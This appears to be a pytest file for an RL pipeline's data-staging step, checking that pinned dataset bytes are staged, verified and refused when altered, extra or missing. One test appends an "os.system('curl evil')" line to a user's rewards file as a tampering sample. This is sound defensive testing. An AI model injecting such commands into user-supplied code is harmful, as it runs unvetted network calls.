"""The head's first step, run for real (issue 27): the program the train manifest ships
(``core.staging``) executed with ``python3 -c`` against fake-gcs-server and the Hub double, through
the same clients it uses in the pod (google-cloud-storage, huggingface_hub's HfFileSystem).

It stages exactly the bytes plan pinned, writes its manifest last, verifies instead of copying on
a second attempt, and refuses (exit 2) a staged file or a user's file that is not what was pinned.
"""

from __future__ import annotations

import hashlib
import json
import os
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from rlpipe.control.lifecycle import data_pins
from rlpipe.core import layout, staging
from rlpipe.core.request import validate_request
from rlpipe.local.hub_double import HubDouble, HubFile
from tests.conftest import Buckets, minimal_request

RUN = "rstaging0001"
REWARDS = b"def length_penalty(prompts, completions, **kwargs):\n    return [-0.001 * len(c) for c in completions]\n"


@pytest.fixture(scope="module")
def hub() -> Iterator[HubDouble]:
    server = HubDouble().start()
    server.add_known_datasets()
    yield server
    server.stop()


def _pins(hub: HubDouble, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    import huggingface_hub.constants

    monkeypatch.setattr(huggingface_hub.constants, "ENDPOINT", hub.url)
    return data_pins.pin(validate_request(minimal_request()), timeout=5)


def _run(
    buckets: Buckets, hub_url: str, env_entries: list[dict[str, str]], tmp: Path
) -> subprocess.CompletedProcess[str]:
    """The program exactly as the manifest ships it (``python3 -c '<program>'``), in a process
    whose clients reach the emulators."""
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("HF_", "RLPIPE_"))},
        "STORAGE_EMULATOR_HOST": buckets.emulator,
        "GOOGLE_CLOUD_PROJECT": "rlpipe-test",
        "HF_ENDPOINT": hub_url,
        "HF_HOME": str(tmp / "hf-home"),
        **{e["name"]: e["value"] for e in env_entries},
    }
    [python, flag, source] = shlex.split(staging.stage_line())
    assert (python, flag) == ("python3", "-c")
    return subprocess.run(
        [sys.executable, "-c", source], env=env, capture_output=True, text=True, timeout=120
    )


def _user_entries(buckets: Buckets, tmp: Path, data: bytes = REWARDS) -> dict[str, Any]:
    run = layout.RunLayout(buckets.artifacts, RUN)
    buckets.store("artifacts").put(run.user_file("rewards", ".py"), data)
    return {
        "rewards": {
            "uri": run.uri(run.user_file("rewards", ".py")),
            "sha256": hashlib.sha256(REWARDS).hexdigest(),
        }
    }


def _env(buckets: Buckets, data: dict[str, Any], inputs: dict[str, Any], tmp: Path) -> list[dict[str, str]]:
    entries = staging.env(layout.RunLayout(buckets.artifacts, RUN), data, inputs)
    for e in entries:  # the files land in this test's directory, not the pod's /tmp/rlpipe/user
        if e["name"] == staging.ENV_USER_FILES:
            files = json.loads(e["value"])
            for f in files:
                f["local"] = str(tmp / "user" / Path(f["local"]).name)
            e["value"] = json.dumps(files)
    return entries


def test_the_first_attempt_stages_the_pinned_bytes_and_a_second_verifies_them(
    buckets: Buckets, hub: HubDouble, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    data = _pins(hub, monkeypatch)
    inputs = _user_entries(buckets, tmp_path)
    env = _env(buckets, data, inputs, tmp_path)

    first = _run(buckets, hub.url, env, tmp_path)
    assert first.returncode == 0, first.stdout + first.stderr
    run = layout.RunLayout(buckets.artifacts, RUN)
    artifacts = buckets.store("artifacts")
    for role in ("train", "eval"):
        for index, f in enumerate(data[role]["files"]):
            staged = artifacts.read(run.data_file(role, index), max_bytes=1 << 30).data
            pinned = hub.file_bytes("openai/gsm8k", f["path"], data[role]["sha"], repo_type="dataset")
            assert staged == pinned and hashlib.sha256(staged).hexdigest() == f["sha256"]
    assert artifacts.exists(run.data_manifest)
    assert (tmp_path / "user" / "rewards.py").read_bytes() == REWARDS
    assert "data: staged" in first.stdout and "rewards: " in first.stdout

    second = _run(buckets, hub.url, env, tmp_path)
    assert second.returncode == 0, second.stdout + second.stderr
    assert "verified against the pinned commits" in second.stdout
    assert "data: staged" not in second.stdout, "a later attempt copies nothing"


def test_a_branch_that_moved_after_plan_changes_nothing_staged(
    buckets: Buckets, hub: HubDouble, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    data = _pins(hub, monkeypatch)
    path = data["train"]["files"][0]["path"]
    hub.push("openai/gsm8k", {path: HubFile.of(path, b"not the pinned bytes")}, repo_type="dataset")
    assert hub.file_bytes("openai/gsm8k", path, "main", repo_type="dataset") == b"not the pinned bytes"
    try:
        result = _run(buckets, hub.url, _env(buckets, data, {}, tmp_path), tmp_path)
    finally:
        hub.add_known_datasets()  # main back where the other tests expect it
    assert result.returncode == 0, result.stdout + result.stderr
    staged = (
        buckets.store("artifacts")
        .read(layout.RunLayout(buckets.artifacts, RUN).data_file("train", 0), max_bytes=1 << 30)
        .data
    )
    assert hashlib.sha256(staged).hexdigest() == data["train"]["files"][0]["sha256"]


def _staged_once(
    buckets: Buckets, hub: HubDouble, monkeypatch: pytest.MonkeyPatch, tmp: Path
) -> tuple[list[dict[str, str]], layout.RunLayout]:
    """A first attempt that staged the pinned data: its environment (for the next attempt)."""
    env = _env(buckets, _pins(hub, monkeypatch), {}, tmp)
    assert _run(buckets, hub.url, env, tmp).returncode == 0
    return env, layout.RunLayout(buckets.artifacts, RUN)


def test_a_staged_file_changed_between_attempts_stops_the_next_one(
    buckets: Buckets, hub: HubDouble, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    env, run = _staged_once(buckets, hub, monkeypatch, tmp_path)
    buckets.store("artifacts").put(run.data_file("train", 0), b"rewritten by someone")
    result = _run(buckets, hub.url, env, tmp_path)
    assert result.returncode == staging.EXIT_NOT_PINNED
    assert "is not the file staged from openai/gsm8k@" in result.stdout


def test_a_user_file_that_is_not_what_intake_checked_never_runs(
    buckets: Buckets, hub: HubDouble, tmp_path: Path
) -> None:
    inputs = _user_entries(buckets, tmp_path, data=REWARDS + b"import os\nos.system('curl evil')\n")
    result = _run(buckets, hub.url, _env(buckets, {}, inputs, tmp_path), tmp_path)
    assert result.returncode == staging.EXIT_NOT_PINNED
    assert "not running other code than intake checked" in result.stdout
    assert not (tmp_path / "user" / "rewards.py").exists()


def test_a_hub_that_does_not_answer_is_a_transient_exit(
    buckets: Buckets, hub: HubDouble, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    data = _pins(hub, monkeypatch)
    env = _env(buckets, data, {}, tmp_path)
    dead = HubDouble().start()
    url = dead.url
    dead.stop()
    result = _run(buckets, url, env, tmp_path)
    assert result.returncode == staging.EXIT_TRANSIENT, result.stdout + result.stderr
    assert "can be retried" in result.stdout
    assert not buckets.store("artifacts").exists(layout.RunLayout(buckets.artifacts, RUN).data_manifest)


def test_an_extra_file_under_a_staged_split_stops_the_next_attempt(
    buckets: Buckets, hub: HubDouble, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """hf_train_files is a glob: a file nobody pinned beside the staged ones would be read too."""
    env, run = _staged_once(buckets, hub, monkeypatch, tmp_path)
    buckets.store("artifacts").put(run.data_file("train", 99999), b"PAR1 not pinned PAR1")
    result = _run(buckets, hub.url, env, tmp_path)
    assert result.returncode == staging.EXIT_NOT_PINNED, result.stdout + result.stderr
    assert "99999.parquet in bucket" in result.stdout and "is not a file plan pinned" in result.stdout


def test_a_missing_user_copy_or_staged_file_is_permanent_not_retried(
    buckets: Buckets, hub: HubDouble, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    run = layout.RunLayout(buckets.artifacts, RUN)
    inputs = {"rewards": {"uri": run.uri(run.user_file("rewards", ".py")), "sha256": "0" * 64}}
    gone = _run(buckets, hub.url, _env(buckets, {}, inputs, tmp_path), tmp_path)
    assert gone.returncode == staging.EXIT_NOT_PINNED and "is gone" in gone.stdout

    env, run = _staged_once(buckets, hub, monkeypatch, tmp_path)
    buckets.client.bucket(buckets.artifacts).blob(run.data_file("eval", 0)).delete()
    result = _run(buckets, hub.url, env, tmp_path)
    assert result.returncode == staging.EXIT_NOT_PINNED and "is gone" in result.stdout
